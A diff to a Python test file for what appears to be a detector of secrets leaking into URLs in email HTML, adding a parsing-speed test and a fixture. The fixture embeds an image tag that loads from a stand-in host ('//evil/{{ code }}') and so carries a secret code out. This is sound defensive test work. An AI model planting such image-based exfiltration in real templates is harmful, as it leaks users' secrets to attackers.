@@ -1,5 +1,6 @@
 """Secrets in URLs: followed through every way in which a template can hand on a value."""
 
+import time
 from collections.abc import Sequence
 from typing import Any
 
@@ -223,3 +224,14 @@ def test_secret_that_is_a_fraction_is_checked_as_any_other(example: float) -> No
         sensitive=frozenset({"code"}),
     )
     assert found == []
+
+
+def test_nested_conditions_of_outlook_are_read_once() -> None:
+    """Each level was a search through the rest of the part."""
+    nested = "{{ code }}" + "<!--[if x]>" * 900
+    html = nested + "a" * (60_000 - len(nested)) + "-->x"
+    before = time.process_time()
+    assert codes(html, "email_html") == set()
+    assert time.process_time() - before < 1
+    shown = "<!--[if x]>" * 3 + "<img src='//evil/{{ code }}'><!-- y --> -->"
+    assert codes(shown, "email_html") == {exposure.CODE}
